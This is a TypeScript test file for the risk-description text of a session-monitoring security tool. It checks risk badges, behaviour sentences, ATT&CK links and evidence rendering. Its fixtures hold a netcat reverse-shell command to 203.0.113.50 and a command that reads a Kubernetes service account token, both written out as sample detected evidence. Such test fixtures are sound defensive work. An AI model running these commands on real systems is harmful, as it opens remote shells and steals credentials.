import { describe, expect, it } from 'vitest';
import type { SessionBehaviorDto, SessionRisk } from '@execwatch/api';
import {
  behaviorBadgeColor,
  behaviorLine,
  behaviorsByProcess,
  evidenceCommand,
  isHighRisk,
  moreEvidence,
  riskBadgeColors,
  riskBadgeTitle,
  riskLevelOf,
  riskSentence,
  topBehaviorTitles,
} from './session-risk-text';
import { techniqueUrl } from '../attack/technique-url';

function behavior(over: Partial<SessionBehaviorDto>): SessionBehaviorDto {
  return { id: 'b', title: 'B', technique_id: 'T1059', technique_name: 'Command and Scripting Interpreter', weight: 10, match_count: 1, evidence: [], ...over };
}

const shell = { entity_id: 'nc-1', name: 'nc', args: ['nc', '203.0.113.50', '4444', '-e', '/bin/sh'], executable: '/usr/bin/nc', time: '2026-01-01T10:03:00.000Z' };
const cat = { entity_id: 'cat-1', name: 'cat', args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], executable: '/bin/cat', time: '2026-01-01T10:01:00.000Z' };

const attacker: SessionRisk = {
  risk_score: 91,
  risk_level: 'critical',
  scored_at: '2026-01-01T10:05:00.000Z',
  related_alerts: [],
  behaviors: [
    behavior({ id: 'execution.reverse_shell', title: 'Reverse shell', technique_id: 'T1059.004', weight: 45, evidence: [shell] }),
    behavior({ id: 'credential_access.service_account_token', title: 'Service account token read', technique_id: 'T1528', weight: 30, match_count: 3, evidence: [cat] }),
    behavior({ id: 'discovery.container', title: 'Container environment discovery', technique_id: 'T1613', weight: 3, evidence: [cat] }),
  ],
};

describe('risk levels and their badges', () => {
  it.each([
    [0, 'low'],
    [24, 'low'],
    [25, 'medium'],
    [49, 'medium'],
    [50, 'high'],
    [74, 'high'],
    [75, 'critical'],
    [100, 'critical'],
  ] as const)('grades %i as %s, as the server does', (score, level) => {
    expect(riskLevelOf(score)).toBe(level);
  });

  it('colours the badge by level: low stays quiet, critical is the one solid badge', () => {
    expect(riskBadgeColors).toEqual({
      low: { color: 'default', fill: false },
      medium: { color: 'warning', fill: false },
      high: { color: 'risk', fill: false },
      critical: { color: 'danger', fill: true },
    });
    expect(riskBadgeTitle(attacker)).toBe('Session risk 91 of 100: critical (75 and above)');
  });

  it('colours a behaviour by its weight', () => {
    expect([45, 30, 29, 15, 14, 6, 5, 0].map(behaviorBadgeColor)).toEqual(['danger', 'danger', 'risk', 'risk', 'warning', 'warning', 'default', 'default']);
  });

  it('calls 50 and above high risk, and an unscored session not', () => {
    expect(isHighRisk(attacker)).toBe(true);
    expect(isHighRisk({ ...attacker, risk_score: 50 })).toBe(true);
    expect(isHighRisk({ ...attacker, risk_score: 49 })).toBe(false);
    expect(isHighRisk(null)).toBe(false);
  });
});

describe('what the session did, in words', () => {
  it('names the heaviest behaviours first, whatever order they came in', () => {
    const shuffled = { ...attacker, behaviors: [...attacker.behaviors].reverse() };
    expect(topBehaviorTitles(shuffled, 2)).toEqual(['Reverse shell', 'Service account token read']);
    expect(topBehaviorTitles({ ...attacker, behaviors: [] }, 2)).toEqual([]);
  });

  it('says what the session scored and why', () => {
    expect(riskSentence(attacker, 2)).toBe('This session scored 91: Reverse shell; Service account token read');
    expect(riskSentence({ ...attacker, risk_score: 0, behaviors: [] })).toBe('This session scored 0');
  });

  it('writes a behaviour with its technique, and the technique as its ATT&CK page', () => {
    expect(behaviorLine(attacker.behaviors[0] ?? behavior({}))).toBe('Reverse shell (T1059.004)');
    expect(techniqueUrl('T1552.001')).toBe('https://attack.mitre.org/techniques/T1552/001/');
    expect(techniqueUrl('T1609')).toBe('https://attack.mitre.org/techniques/T1609/');
  });

  it('shows the evidence as the command line, and counts the processes not kept as evidence', () => {
    expect(evidenceCommand(shell)).toBe('nc 203.0.113.50 4444 -e /bin/sh');
    expect(evidenceCommand({ name: 'curl', args: ['curl', '-H', 'Authorization: Bearer x'], executable: null })).toBe('curl -H "Authorization: Bearer x"');
    expect(evidenceCommand({ name: 'sh', args: [], executable: '/bin/sh' })).toBe('sh');
    expect(moreEvidence(attacker.behaviors[1] ?? behavior({}))).toBe(2);
    expect(moreEvidence(behavior({ match_count: 0, evidence: [shell] }))).toBe(0);
  });

  it('puts each behaviour on the processes of its evidence, for the tree', () => {
    const byProcess = behaviorsByProcess(attacker);
    expect(byProcess.get('nc-1')?.map((b) => b.id)).toEqual(['execution.reverse_shell']);
    expect(byProcess.get('cat-1')?.map((b) => b.id)).toEqual(['credential_access.service_account_token', 'discovery.container']);
    expect(byProcess.has('bash-1')).toBe(false);
    const noId = { ...attacker, behaviors: [behavior({ evidence: [{ ...shell, entity_id: null }] })] };
    expect(behaviorsByProcess(noId).size).toBe(0);
    expect(behaviorsByProcess(null).size).toBe(0);
  });
});
